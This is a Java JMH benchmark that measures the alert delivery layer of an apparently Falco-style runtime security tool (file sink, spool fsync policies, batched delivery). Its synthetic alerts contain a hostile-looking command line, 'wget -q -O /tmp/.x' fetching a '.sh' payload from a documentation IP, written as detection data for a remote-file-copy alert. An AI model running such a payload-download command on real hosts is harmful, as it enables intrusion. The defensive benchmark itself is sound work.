package dev.vigil.bench;

import dev.vigil.alert.Alert;
import dev.vigil.alert.Priority;
import dev.vigil.common.Metrics;
import dev.vigil.sink.delivery.DeliveringSink;
import dev.vigil.sink.delivery.DeliveryOptions;
import dev.vigil.sink.delivery.Destination;
import dev.vigil.sink.delivery.Envelope;
import dev.vigil.sink.delivery.EnvelopeCodec;
import dev.vigil.sink.delivery.FsyncPolicy;
import dev.vigil.sink.delivery.Spool;
import dev.vigil.sink.file.FileSink;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import java.util.stream.Stream;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Level;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OperationsPerInvocation;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.TearDown;
import org.openjdk.jmh.annotations.Threads;
import org.openjdk.jmh.annotations.Warmup;

/**
 * Alert delivery costs, one alert per operation (scores are alerts per second on the calling thread):
 *
 * <ul>
 *   <li>{@code fileSink}: {@link FileSink#accept}, a Falco JSON line written and flushed per alert, as the
 *       dispatch thread does it.
 *   <li>{@code spoolAppendOne} / {@code spoolAppendGroup64}: the spool writer's work per alert (encode the
 *       envelope, CRC, append) with groups of 1 and 64 alerts per write, for each {@link FsyncPolicy}; a
 *       background thread reads and acknowledges, as the delivery thread does, so the spool stays small.
 *   <li>{@code deliveryBulk} / {@code deliveryOneByOne}: the whole delivery layer, {@link DeliveringSink#accept}
 *       to an acknowledging destination (memory queue, spool writer, spool reader, decode, ack), with batches of
 *       500 (a bulk API such as Elasticsearch's) and of 1 (Slack, webhooks), and a destination that returns at
 *       once, so this is the layer's ceiling, not a network's.
 * </ul>
 *
 * Files go to {@code java.io.tmpdir}. See docs/BENCHMARKS.md for results.
 */
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
@Threads(1)
@Fork(value = 1, jvmArgsAppend = {"-Xms1g", "-Xmx1g"})
@Warmup(iterations = 3, time = 2)
@Measurement(iterations = 5, time = 2)
public class DeliveryLayerBenchmark {

  static final int ALERTS = 1024;

  /** Alerts shaped like the engine's: a process alert with the default rules' fields, about 900 bytes of JSON. */
  static Alert[] alerts() {
    Alert[] a = new Alert[ALERTS];
    Instant t0 = Instant.parse("2026-03-01T10:00:00Z");
    for (int i = 0; i < ALERTS; i++) {
      Map<String, Object> f = new LinkedHashMap<>();
      f.put("evt.time", t0.toEpochMilli() * 1_000_000L + i);
      f.put("evt.type", "execve");
      f.put("container.id", "3f2a9c" + (100000 + i % 50));
      f.put("container.name", "api-" + (i % 50));
      f.put("container.image.repository", "registry.example.com/shop/api");
      f.put("container.image.tag", "2.14." + (i % 7));
      f.put("proc.name", "wget");
      f.put("proc.cmdline", "wget -q -O /tmp/.x http://203.0.113.7/payload-" + i + ".sh");
      f.put("proc.pid", 4000 + i);
      f.put("proc.pname", "sh");
      f.put("user.name", "root");
      f.put("proc.exepath", "/usr/bin/wget");
      a[i] = new Alert(t0.plusMillis(i), "Remote file copy tool launched in container", Priority.NOTICE,
          "Remote file copy tool launched in container (command=wget -q -O /tmp/.x http://203.0.113.7/payload-" + i
              + ".sh container=api-" + (i % 50) + " image=registry.example.com/shop/api:2.14." + (i % 7) + ")",
          "syscall", List.of("container", "network", "mitre_command_and_control", "T1105"), "bench-host", f);
    }
    return a;
  }

  static void deleteTree(Path dir) throws IOException {
    try (Stream<Path> s = Files.walk(dir)) {
      for (Path p : s.sorted(Comparator.reverseOrder()).toList()) {
        Files.deleteIfExists(p);
      }
    }
  }

  /** The file sink, as the dispatch thread uses it. */
  @State(Scope.Thread)
  public static class FileState {
    Path dir;
    FileSink sink;
    Alert[] alerts;
    int next;

    @Setup(Level.Trial)
    public void setUp() throws IOException {
      dir = Files.createTempDirectory("vigil-bench-file");
      sink = new FileSink(dir.resolve("alerts.jsonl"), Metrics.inMemory());
      alerts = alerts();
    }

    @TearDown(Level.Trial)
    public void tearDown() throws IOException {
      sink.close();
      deleteTree(dir);
    }
  }

  @Benchmark
  public void fileSink(FileState s) {
    s.sink.accept(s.alerts[s.next++ & (ALERTS - 1)]);
  }

  /** A spool with a reader acknowledging in the background. */
  @State(Scope.Thread)
  public static class SpoolState {
    @Param({"NEVER", "INTERVAL", "ALWAYS"})
    public FsyncPolicy fsync;

    Path dir;
    Spool spool;
    Envelope[] envelopes;
    int next;
    Thread reader;
    volatile boolean stop;
    final List<byte[]> group = new ArrayList<>(64);

    @Setup(Level.Trial)
    public void setUp() throws IOException {
      dir = Files.createTempDirectory("vigil-bench-spool");
      spool = Spool.open(dir, 256L << 20, fsync, Duration.ofSeconds(1), null);
      Alert[] a = alerts();
      envelopes = new Envelope[ALERTS];
      for (int i = 0; i < ALERTS; i++) {
        envelopes[i] = new Envelope(UUID.randomUUID().toString(), a[i]);
      }
      reader = new Thread(() -> {
        try {
          while (!stop) {
            Spool.Batch b = spool.read(500, Duration.ofMillis(100));
            if (!b.isEmpty()) {
              spool.ack(b);
            }
          }
        } catch (IOException | InterruptedException e) {
          throw new IllegalStateException(e);
        }
      }, "bench-spool-reader");
      reader.setDaemon(true);
      reader.start();
    }

    @TearDown(Level.Trial)
    public void tearDown() throws Exception {
      stop = true;
      reader.join(5000);
      spool.close();
      deleteTree(dir);
    }
  }

  @Benchmark
  public void spoolAppendOne(SpoolState s) throws IOException {
    s.group.clear();
    s.group.add(EnvelopeCodec.encode(s.envelopes[s.next++ & (ALERTS - 1)]));
    s.spool.append(s.group);
  }

  @Benchmark
  @OperationsPerInvocation(64)
  public void spoolAppendGroup64(SpoolState s) throws IOException {
    s.group.clear();
    for (int i = 0; i < 64; i++) {
      s.group.add(EnvelopeCodec.encode(s.envelopes[s.next++ & (ALERTS - 1)]));
    }
    s.spool.append(s.group);
  }

  /** Counts what the destination acknowledged. */
  static final class CountingDestination implements Destination {
    final int maxBatch;
    final AtomicLong acked = new AtomicLong();

    CountingDestination(int maxBatch) {
      this.maxBatch = maxBatch;
    }

    @Override
    public String name() {
      return "bench" + maxBatch;
    }

    @Override
    public int maxBatch() {
      return maxBatch;
    }

    @Override
    public void deliver(List<Envelope> batch) {
      acked.addAndGet(batch.size());
    }
  }

  /** A delivering sink with the default options (fsync each second) in front of a counting destination. */
  public abstract static class DeliveryState {
    Path dir;
    DeliveringSink sink;
    CountingDestination dest;
    Alert[] alerts;
    long sent;

    abstract int batch();

    @Setup(Level.Trial)
    public void setUp() throws IOException {
      dir = Files.createTempDirectory("vigil-bench-delivery");
      dest = new CountingDestination(batch());
      sink = new DeliveringSink(dest, DeliveryOptions.defaults(), dir, Metrics.inMemory(), Clock.systemUTC());
      sink.start();
      alerts = alerts();
    }

    /** Sends 10,000 alerts (waiting whenever the memory queue is half full) and waits until all are acked. */
    void push() throws InterruptedException {
      for (int i = 0; i < 10_000; i++) {
        while (sink.state().queued() > 5_000) {
          Thread.onSpinWait();
        }
        sink.accept(alerts[i & (ALERTS - 1)]);
      }
      sent += 10_000;
      while (dest.acked.get() < sent) {
        Thread.sleep(0, 100_000);
      }
    }

    @TearDown(Level.Trial)
    public void tearDown() throws IOException {
      sink.close(Duration.ofSeconds(5));
      deleteTree(dir);
    }
  }

  /** Batches of 500. */
  @State(Scope.Thread)
  public static class BulkState extends DeliveryState {
    @Override
    int batch() {
      return 500;
    }
  }

  /** One alert per call. */
  @State(Scope.Thread)
  public static class SingleState extends DeliveryState {
    @Override
    int batch() {
      return 1;
    }
  }

  @Benchmark
  @OperationsPerInvocation(10_000)
  public void deliveryBulk(BulkState s) throws InterruptedException {
    s.push();
  }

  @Benchmark
  @OperationsPerInvocation(10_000)
  public void deliveryOneByOne(SingleState s) throws InterruptedException {
    s.push();
  }
}
